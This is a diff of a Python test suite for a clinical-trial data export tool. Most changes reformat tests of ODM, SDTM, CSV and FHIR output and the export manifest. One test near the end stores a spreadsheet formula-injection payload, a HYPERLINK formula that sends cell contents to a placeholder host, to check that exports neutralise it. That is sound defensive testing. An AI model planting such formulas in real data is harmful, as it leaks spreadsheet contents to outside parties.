@@ -37,8 +37,11 @@ def _unpack(job, tmp_path):
 def _slot_arms(world):
     from trialkit.server.allocation.services import allocation_list_rows
 
-    return {s.participant.participant_number: s.arm_id
-            for s in allocation_list_rows(world["trial"], world["dsmb"]) if s.participant}
+    return {
+        s.participant.participant_number: s.arm_id
+        for s in allocation_list_rows(world["trial"], world["dsmb"])
+        if s.participant
+    }
 
 
 def test_an_unblinded_export_holds_odm_sdtm_csv_and_a_manifest(world, tmp_path):
@@ -56,9 +59,14 @@ def test_an_unblinded_export_holds_odm_sdtm_csv_and_a_manifest(world, tmp_path):
     assert (job.status, job.progress, job.unblinded) == ("done", 100, True)
     unpacked = _unpack(job, tmp_path)
     assert sorted(p.relative_to(unpacked).as_posix() for p in unpacked.rglob("*") if p.is_file()) == sorted(
-        ["odm.xml", "manifest.json", *PACKAGE_FILES,
-         *(f"data/{t}.csv" for t in ("participants", "outcomes", "adverse_events", "screening", "dictionary")),
-         "fhir/bundle.json"])
+        [
+            "odm.xml",
+            "manifest.json",
+            *PACKAGE_FILES,
+            *(f"data/{t}.csv" for t in ("participants", "outcomes", "adverse_events", "screening", "dictionary")),
+            "fhir/bundle.json",
+        ]
+    )
     # The unblinded FHIR Bundle: one ResearchSubject per enrolled participant, each with its arm.
     bundle = json.loads((unpacked / "fhir" / "bundle.json").read_text(encoding="utf-8"))
     subjects = [e["resource"] for e in bundle["entry"] if e["resource"]["resourceType"] == "ResearchSubject"]
@@ -100,8 +108,8 @@ def test_an_unblinded_export_holds_odm_sdtm_csv_and_a_manifest(world, tmp_path):
     assert len(lb) == ENROLLED * 9 and len(supplb) == ENROLLED * 5
     creat = lb[lb.LBTESTCD == "CREAT"].iloc[0]
     assert (creat.LBORRES, creat.LBORRESU, creat.LBORNRHI, creat.LBSTRESU) == ("84", "umol/L", "97", "mg/dL")
-    assert creat.LBSTRESN == pytest.approx(84 / 88.4) and creat.LBSTNRHI == pytest.approx(97 / 88.4)
-    assert set(supplb[supplb.IDVARVAL == str(int(creat.LBSEQ))].QVAL) == {f"{84 / 97:.4g}"}
+    assert pytest.approx(84 / 88.4) == creat.LBSTRESN and pytest.approx(97 / 88.4) == creat.LBSTNRHI
+    assert set(supplb[str(int(creat.LBSEQ)) == supplb.IDVARVAL].QVAL) == {f"{84 / 97:.4g}"}
 
     data = load_trial_data(unpacked / "data")
     assert dict(zip(data.participants.participant_id, data.participants.arm)) == arms
@@ -133,15 +141,21 @@ def test_nothing_is_silently_dropped(world):
     job = services.create_export(world["trial"], world["dsmb"], unblinded=False, now=NOW)
     assert job.manifest["counts"]["forms"] == 13 + CARRIED_COMPLETE and job.manifest["counts"]["adverse_events"] == 2
     assert {(e["what"], e["count"], e["why"].split(" ")[0]) for e in job.manifest["excluded"]} == {
-        ("forms", 1, "deleted"), ("forms", 1 + CARRIED_DRAFT, "draft"), ("adverse_events", 1, "deleted"),
-        ("adverse_events", 1, "draft")}
+        ("forms", 1, "deleted"),
+        ("forms", 1 + CARRIED_DRAFT, "draft"),
+        ("adverse_events", 1, "deleted"),
+        ("adverse_events", 1, "draft"),
+    }
 
 
 def test_drafts_are_included_on_request_and_flagged(world):
     job = services.create_export(world["trial"], world["dsmb"], include_drafts=True, now=NOW)
     counts = job.manifest["counts"]
     assert (counts["forms"], counts["forms_draft_included"], counts["adverse_events"]) == (
-        14 + CARRIED_COMPLETE + CARRIED_DRAFT, 1 + CARRIED_DRAFT, 3)
+        14 + CARRIED_COMPLETE + CARRIED_DRAFT,
+        1 + CARRIED_DRAFT,
+        3,
+    )
     assert [e["why"].split(" ")[0] for e in job.manifest["excluded"]] == ["deleted", "deleted"]
     data = services.export_data(world["trial"], world["dsmb"], unblinded=False, include_drafts=True)
     assert [f.status for f in data.forms].count("draft") == 1 + CARRIED_DRAFT
@@ -232,32 +246,50 @@ def test_ended_participations_reach_sdtm_ds_dated_and_the_analysis_tables(world,
     """DS (SDTMIG disposition): one record per ended participant, DSDECOD from the outcome and
     DSSTDTC the day participation ended; those in follow-up have none. The analysis table's
     status (docs/analysis.md: completed, withdrawn, lost) matches the report's own extract."""
-    from trialkit.server.capture.services import end_participation
     from trialkit.analysis.trial_data import analysis_tables
+    from trialkit.server.capture.services import end_participation
     from trialkit.server.exports.extract import select
 
     first, second, third = world["participants"][:3]
     later = NOW + timedelta(days=20)
-    end_participation(first, world["coordinator"], outcome="withdrawn", ended_on="2025-03-21",
-                      reason="Withdrew consent to further visits", now=later)
-    end_participation(second, world["investigator"], outcome="died", ended_on="2025-03-25",
-                      reason="Fatal recurrent stroke", now=later)
-    end_participation(third, world["coordinator"], outcome="lost_to_follow_up", ended_on="2025-03-28",
-                      reason="No contact after the day 7 visit", now=later)
+    end_participation(
+        first,
+        world["coordinator"],
+        outcome="withdrawn",
+        ended_on="2025-03-21",
+        reason="Withdrew consent to further visits",
+        now=later,
+    )
+    end_participation(
+        second, world["investigator"], outcome="died", ended_on="2025-03-25", reason="Fatal recurrent stroke", now=later
+    )
+    end_participation(
+        third,
+        world["coordinator"],
+        outcome="lost_to_follow_up",
+        ended_on="2025-03-28",
+        reason="No contact after the day 7 visit",
+        now=later,
+    )
     job = services.create_export(world["trial"], world["dsmb"], formats=["sdtm", "csv"], now=later)
     ds, _meta = pyreadstat.read_xport(str(_unpack(job, tmp_path) / "sdtm" / "ds.xpt"))
-    assert sorted(zip(ds.USUBJID, ds.DSDECOD, ds.DSSTDTC)) == sorted([
-        (f"NCT04590118-{first.participant_number}", "WITHDRAWAL BY SUBJECT", "2025-03-21"),
-        (f"NCT04590118-{second.participant_number}", "DEATH", "2025-03-25"),
-        (f"NCT04590118-{third.participant_number}", "LOST TO FOLLOW-UP", "2025-03-28"),
-    ])
+    assert sorted(zip(ds.USUBJID, ds.DSDECOD, ds.DSSTDTC)) == sorted(
+        [
+            (f"NCT04590118-{first.participant_number}", "WITHDRAWAL BY SUBJECT", "2025-03-21"),
+            (f"NCT04590118-{second.participant_number}", "DEATH", "2025-03-25"),
+            (f"NCT04590118-{third.participant_number}", "LOST TO FOLLOW-UP", "2025-03-28"),
+        ]
+    )
     table = pd.read_csv(io.BytesIO(members(job.result_path)["data/participants.csv"]), dtype=str)
     exported = dict(zip(table.participant_id, table.status))
-    assert exported == {first.participant_number: "withdrawn", second.participant_number: "completed",
-                        third.participant_number: "lost", world["participants"][3].participant_number: "ongoing"}
+    assert exported == {
+        first.participant_number: "withdrawn",
+        second.participant_number: "completed",
+        third.participant_number: "lost",
+        world["participants"][3].participant_number: "ongoing",
+    }
     tables = analysis_tables(select(world["trial"], arms=None), world["trial"].protocol, unblinded=False)
     assert dict(zip(tables["participants"].participant_id, tables["participants"].status)) == exported
-
 
 
 def test_free_text_a_spreadsheet_would_run_is_exported_inert(world, make_user):
@@ -268,8 +300,7 @@ def test_free_text_a_spreadsheet_would_run_is_exported_inert(world, make_user):
     first = world["participants"][0]
     formula = '=HYPERLINK("http://example.invalid/?"&A1,"Headache")'
     capture.save_adverse_event(first, {**AE, "term": formula}, world["coordinator"], complete=True, now=NOW)
-    job = services.create_export(world["trial"], make_user("data_manager", world["trial"]), formats=["csv"],
-                                 now=NOW)
+    job = services.create_export(world["trial"], make_user("data_manager", world["trial"]), formats=["csv"], now=NOW)
     text = members(job.result_path)["data/adverse_events.csv"].decode()
     terms = pd.read_csv(io.StringIO(text), dtype=str)["term"].tolist()
     assert "'" + formula in terms and formula not in terms
